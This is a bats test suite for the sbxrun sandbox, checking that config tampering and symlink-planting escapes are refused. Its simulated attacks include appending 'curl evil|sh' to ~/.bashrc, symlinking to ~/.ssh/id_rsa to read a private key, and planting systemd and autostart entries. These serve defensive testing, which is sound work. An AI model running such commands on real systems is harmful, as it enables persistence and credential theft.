#!/usr/bin/env bats
# What a run trusts must not change meaning behind the user's back (the
# review's E-10, E-17, E-19, W-12): a trusted conf that changed, a conf
# root replaced by a symlink, sbxrun's own conf directory planted under a
# writable root, an --allow-* path that is a planted symlink.  Attacks run
# as static probes (no shim); the results are judged from outside.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() { esc_setup; }
teardown() { esc_teardown; }

# ------------------------------------------------------------ E-17

@test "E-17 a trusted conf that changed (inside or outside) refuses the run; its hide rule never silently vanishes" {
	mkdir -p "$HOME/work-secrets"
	echo "$CANARY" > "$HOME/work-secrets/k"
	echo 'paths = ( { root = "~/work-secrets"; mode = "hide"; } );' > "$P/.sbxrun.conf"
	run "$SBXRUN" --trust
	[ "$status" -eq 0 ]
	run xsbx -- cat "$HOME/work-secrets/k"
	[[ "$output" != *"$CANARY"* ]]
	# from inside, without the shim: in landlock-only the conf is only
	# advisory-protected, so this may succeed; either way the next run
	# must not lose the hide
	run xsbx -- "$SBX_SYS.static" append "$P/.sbxrun.conf" " "
	# and the same from outside (a git pull, another branch)
	echo '# changed' >> "$P/.sbxrun.conf"
	run xsbx -- cat "$HOME/work-secrets/k"
	[ "$status" -eq 125 ]
	[[ "$output" != *"$CANARY"* ]]
	[[ "$output" == *"changed since you trusted it; refusing"*"sbxrun --trust"* ]]
	# removed (landlock-only: an unlink from inside) is no better
	run xsbx -- "$SBX_SYS.static" unlink "$P/.sbxrun.conf"
	rm -f "$P/.sbxrun.conf"
	run xsbx -- cat "$HOME/work-secrets/k"
	[ "$status" -eq 125 ]
	[[ "$output" != *"$CANARY"* ]]
	[[ "$output" == *"was trusted but is gone"*"sbxrun --trust"* ]]
	# the "to allow" the refusal names: sbxrun --trust, then it runs
	run "$SBXRUN" --trust
	[ "$status" -eq 0 ]
	[[ "$output" == *"forgot"* ]]
	run xsbx -- true
	[ "$status" -eq 0 ]
}

# ------------------------------------------------------------ E-19

@test "E-19 sbxrun's own conf directory (XDG_CONFIG_HOME) under the project is never plantable, absent or present" {
	# absent, with its parent absent too: refused before anything runs
	run env XDG_CONFIG_HOME="$P/.config" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- \
		"$SBX_SYS.static" mkdir "$P/.config"
	[ "$status" -eq 125 ]
	[[ "$output" == *"sbxrun's own conf directory (missing) '$P/.config/sbxrun' would be writable"*"set XDG_CONFIG_HOME to a directory outside the writable paths"* ]]
	[ ! -e "$P/.config" ]
	# absent, its parent present: the run goes on, and what it planted
	# there is moved aside at exit (plant.c), never read by the next run
	mkdir -p "$P/.config"
	run env XDG_CONFIG_HOME="$P/.config" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- \
		sh -c 'mkdir -p "$1/.config/sbxrun" && echo "network = { mode = \"on\"; };" > "$1/.config/sbxrun/config"' sh "$P"
	[ ! -e "$P/.config/sbxrun/config" ]
	run env XDG_CONFIG_HOME="$P/.config" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- sh -c 'echo "net=$SBXRUN_NET"'
	[[ "$output" != *"net=on"* ]]
	rm -rf "$P/.config"
	# present: a static write into it (no shim) never lands
	mkdir -p "$P/.config/sbxrun"
	run env XDG_CONFIG_HOME="$P/.config" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- \
		"$SBX_SYS.static" creat "$P/.config/sbxrun/config" 'network = { mode = "on"; };'
	[ ! -e "$P/.config/sbxrun/config" ]
	# the fix it names: XDG_CONFIG_HOME outside; the run then works
	run env XDG_CONFIG_HOME="$T/xdg" timeout 60 "$SBXRUN" --mode "$SBX_MODE" -- true
	[ "$status" -eq 0 ]
}

# ------------------------------------------------------------ E-10

@test "E-10 a trusted relative rw root absent at launch, made a symlink to ~ by a run: the next run refuses, ~ stays read-only" {
	cp "$HOME/.bashrc" "$T/bashrc.before"
	echo 'paths = ( { root = "out"; mode = "rw"; } );' > "$P/.sbxrun.conf"
	run "$SBXRUN" --trust
	[ "$status" -eq 0 ]
	# run 1, no shim: plant out -> ~
	run xsbx -- "$SBX_SYS.static" symlink "$HOME" "$P/out"
	[ -L "$P/out" ] || ln -s "$HOME" "$P/out"	# from outside, if refused
	# run 2, no shim: write ~/.bashrc through the trusted rule
	run xsbx -- "$SBX_SYS.static" append "$HOME/.bashrc" "curl evil|sh"
	[ "$status" -eq 125 ]
	[[ "$output" == *"root 'out' is in the project but resolves to '$HOME' through the symlink '$P/out'"*"rm '$P/out'"* ]]
	cmp "$T/bashrc.before" "$HOME/.bashrc"
	run xsbx -- sh -c 'echo x >> "$HOME/.bashrc"'
	[ "$status" -eq 125 ]
	cmp "$T/bashrc.before" "$HOME/.bashrc"
	# the fix it names, then the run works and out is the project's
	rm "$P/out"
	run xsbx -- sh -c 'mkdir -p out && echo ok > out/f'
	[ "$status" -eq 0 ]
	[ "$(cat "$P/out/f")" = ok ]
}

# ------------------------------------------------------------ W-12

@test "W-12 --allow-read/--allow-write of a project path that a run made a symlink into a hidden root: refused, naming the target" {
	# run 1, no shim: plant notes.txt -> ~/.ssh/id_rsa
	run xsbx -- "$SBX_SYS.static" symlink "$HOME/.ssh/id_rsa" "$P/notes.txt"
	[ -L "$P/notes.txt" ]
	for f in --allow-read --allow-write; do
		run xsbx "$f" "$P/notes.txt" -- "$SBX_SYS.static" read "$P/notes.txt"
		[ "$status" -eq 125 ]
		[[ "$output" != *"$CANARY"* ]]
		[[ "$output" == *"$f $P/notes.txt: it leads through a symlink to '$HOME/.ssh/id_rsa', inside the hidden '$HOME/.ssh'"*"to allow the target, name it: $f $HOME/.ssh/id_rsa"* ]]
	done
	# relative, from the project
	run xsbx --allow-read notes.txt -- cat notes.txt
	[ "$status" -eq 125 ]
	[[ "$output" != *"$CANARY"* ]]
	# the "to allow" it names: the target itself, then the read works
	run xsbx --allow-read "$HOME/.ssh/id_rsa" -- cat notes.txt
	[ "$status" -eq 0 ]
	[[ "$output" == *"$CANARY"* ]]
	# a link that stays outside hidden roots is not refused
	echo hello > "$P/real.txt"
	ln -s real.txt "$P/plain-link"
	run xsbx --allow-read "$P/plain-link" -- cat "$P/plain-link"
	[ "$status" -eq 0 ]
	[ "$output" = hello ]
}

# ------------------------------------------------------------ N-11

@test "N-11 --allow-write/--add-path of a project path that a run made lead outside through a symlink: refused, nothing made outside; the named target works" {
	# run 1, no shim: plant cfg -> ~/.config and home -> ~
	run xsbx -- "$SBX_SYS.static" symlink "$HOME/.config" "$P/cfg"
	run xsbx -- "$SBX_SYS.static" symlink "$HOME" "$P/home"
	[ -L "$P/cfg" ] && [ -L "$P/home" ]
	rm -rf "$HOME/.config/systemd" "$HOME/.local/share/n11"
	# relative to the project, with a trailing '/' (a directory to make)
	run xsbx --allow-write ./cfg/systemd/user/ -- \
		"$SBX_SYS.static" creat "$P/cfg/systemd/user/evil.service" x
	[ "$status" -eq 125 ]
	[[ "$output" == *"--allow-write ./cfg/systemd/user/: it is in the project but leads through the symlink '$P/cfg' to '$HOME/.config/systemd/user', outside it"*"to allow that place, name it: --allow-write $HOME/.config/systemd/user/"* ]]
	[ ! -e "$HOME/.config/systemd" ]
	# absolute, below the project
	run xsbx --allow-write "$P/home/.local/share/n11/" -- \
		"$SBX_SYS.static" creat "$P/home/.local/share/n11/git" x
	[ "$status" -eq 125 ]
	[ ! -e "$HOME/.local/share/n11" ]
	# --add-path (the per-project conf) is refused the same way
	mkdir -p "$HOME/.config/autostart"
	run "$SBXRUN" --add-path ./home/.config/autostart
	[ "$status" -ne 0 ]
	[[ "$output" == *"--add-path ./home/.config/autostart: it is in the project but leads through the symlink '$P/home'"*"name it: --add-path $HOME/.config/autostart"* ]]
	run xsbx -- "$SBX_SYS.static" creat "$P/home/.config/autostart/evil.desktop" x
	[ ! -e "$HOME/.config/autostart/evil.desktop" ]
	rmdir "$HOME/.config/autostart"
	# the "to allow" it printed: the place named itself, then it works
	run xsbx --allow-write "$HOME/.config/systemd/user/" -- \
		"$SBX_SYS.static" creat "$HOME/.config/systemd/user/ok" x
	[ "$status" -eq 0 ]
	[ -f "$HOME/.config/systemd/user/ok" ]
	rm -rf "$HOME/.config/systemd"
	# a link that stays inside the project is followed as before
	mkdir -p "$P/real"
	ln -s real "$P/inlink"
	run xsbx --allow-write ./inlink/sub/ -- "$SBX_SYS.static" creat "$P/inlink/sub/f" x
	[ "$status" -eq 0 ]
	[ -f "$P/real/sub/f" ]
}
